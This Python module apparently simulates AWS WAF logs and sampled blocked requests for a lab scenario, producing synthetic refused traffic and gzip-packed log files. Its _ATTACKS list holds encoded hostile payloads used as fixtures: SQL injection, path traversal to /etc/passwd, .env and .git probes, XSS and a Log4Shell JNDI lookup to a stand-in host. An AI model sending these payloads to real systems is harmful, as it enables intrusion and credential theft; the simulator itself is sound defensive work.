"""The requests that a rule refused, one by one, as samples and logs show them."""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from lab.scenario import Scenario
from lab.systems import counts
from lab.systems.firewall_data import Acl, Rule, acl_arn

# Of a flood only so many a minute are made up one by one; the rest would look the same.
MOST_A_MINUTE = 400
_ATTACKS = (
    ("/search", "q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"),
    ("/.env", ""),
    ("/../../../../etc/passwd", ""),
    ("/orders", "id=1%20OR%201%3D1"),
    ("/api", "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D"),
    ("/.git/config", ""),
    ("/product", "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
)


@dataclass(frozen=True, slots=True)
class Refused:
    """One refused request."""

    rule: Rule
    inner: str
    at: datetime
    client: str
    country: str
    path: str
    query: str
    signed_in: bool


def blocked_counts(scenario: Scenario, rule: Rule, recovered_from: int | None = None) -> dict[int, int]:
    """How many requests the rule blocks in each minute."""
    return counts(scenario, f"web_acl/{rule.name}/blocked", rule.blocked, recovered_from)


def refused(scenario: Scenario, rule: Rule, minute: int, most: int = MOST_A_MINUTE) -> Iterator[Refused]:
    """Some of the requests that the rule blocked in that minute, oldest first."""
    count = blocked_counts(scenario, rule).get(minute, 0)
    made = min(count, most)
    source = random.Random(f"{scenario.name}/{rule.name}/{minute}")
    start = scenario.moment(minute)
    for index in range(made):
        yield _one(rule, start + timedelta(seconds=60 * index / made), source)


def _one(rule: Rule, at: datetime, source: random.Random) -> Refused:
    callers = rule.callers
    client = source.randrange(callers.clients)
    hostile = source.random() < callers.attacks
    path, query = source.choice(_ATTACKS) if hostile else (source.choice(callers.paths), "")
    return Refused(
        rule=rule,
        inner=source.choices(list(rule.inner), list(rule.inner.values()))[0] if rule.is_group else "",
        at=at,
        client=f"198.{18 + client // 65536}.{client // 256 % 256}.{client % 256}",
        country=callers.countries[client % len(callers.countries)],
        path=path,
        query=query,
        signed_in=not hostile and source.random() < callers.signed_in,
    )


def record(scenario: Scenario, acl: Acl, one: Refused) -> dict[str, Any]:
    """A log record (AWS WAF developer guide, "Log fields")."""
    rule = one.rule
    kinds = {"managed": "MANAGED_RULE_GROUP", "group": "GROUP", "rate": "RATE_BASED"}
    groups: list[dict[str, Any]] = [
        {
            "ruleGroupId": f"{rule.vendor}#{rule.group}" if rule.kind == "managed" else rule.group,
            "terminatingRule": {"ruleId": one.inner, "action": "BLOCK", "ruleMatchDetails": None},
            "nonTerminatingMatchingRules": [],
            "excludedRules": None,
        }
    ]
    return {
        "timestamp": round(one.at.timestamp() * 1000),
        "formatVersion": 1,
        "webaclId": acl_arn(scenario, acl),
        "terminatingRuleId": rule.name,
        "terminatingRuleType": kinds.get(rule.kind, "REGULAR"),
        "action": "BLOCK",
        "httpSourceName": "CF" if acl.edge else "ALB",
        "httpSourceId": scenario.load_balancer.dimension,
        "ruleGroupList": groups if rule.is_group else [],
        "rateBasedRuleList": [],
        "nonTerminatingMatchingRules": [],
        "responseCodeSent": rule.response,
        "httpRequest": {
            "clientIp": one.client,
            "country": one.country,
            "headers": [{"name": name, "value": value} for name, value in _headers(one)],
            "uri": one.path,
            "args": one.query,
            "httpVersion": "HTTP/2.0",
            "httpMethod": rule.callers.method,
            "requestId": "1-65f0c0de-000000000000000000000000",
        },
    }


def sampled(one: Refused, weight: int) -> dict[str, Any]:
    """A member of GetSampledRequests' answer."""
    rule = one.rule
    found: dict[str, Any] = {
        "Request": {
            "ClientIP": one.client,
            "Country": one.country,
            "URI": one.path,
            "Method": rule.callers.method,
            "HTTPVersion": "HTTP/2.0",
            "Headers": [{"Name": name, "Value": value} for name, value in _headers(one)],
        },
        "Weight": weight,
        "Timestamp": one.at,
        "Action": "BLOCK",
    }
    if rule.is_group:
        owner = f"{rule.vendor}#{rule.group}" if rule.kind == "managed" else rule.group
        found["RuleNameWithinRuleGroup"] = f"{owner}#{one.inner}"
    return found | ({"ResponseCodeSent": rule.response} if rule.response else {})


def _headers(one: Refused) -> list[tuple[str, str]]:
    agent = [("Host", "orders.example.com"), ("User-Agent", one.rule.callers.agent)]
    return [*agent, ("Cookie", "session=REDACTED")] if one.signed_in else agent


def records(scenario: Scenario, acl: Acl, minutes: range) -> Iterator[dict[str, Any]]:
    """The records of these minutes, with a few of allowed requests among them."""
    for minute in minutes:
        found = [record(scenario, acl, one) for rule in acl.rules for one in refused(scenario, rule, minute)]
        at = round(scenario.moment(minute).timestamp() * 1000)
        yield from sorted([*found, _allowed(at)], key=lambda each: int(each["timestamp"]))


def _allowed(at: int) -> dict[str, Any]:
    request = {
        "clientIp": "198.18.9.9",
        "country": "DE",
        "uri": "/health",
        "httpMethod": "GET",
        "headers": [],
    }
    return {
        "timestamp": at,
        "action": "ALLOW",
        "terminatingRuleId": "Default_Action",
        "ruleGroupList": [],
        "httpRequest": request,
    }


def packed(found: Iterator[Mapping[str, Any]]) -> bytes:
    """Records as the file in a bucket has them."""
    lines = "".join(json.dumps(each) + "\n" for each in found)
    return gzip.compress(lines.encode(), mtime=0)
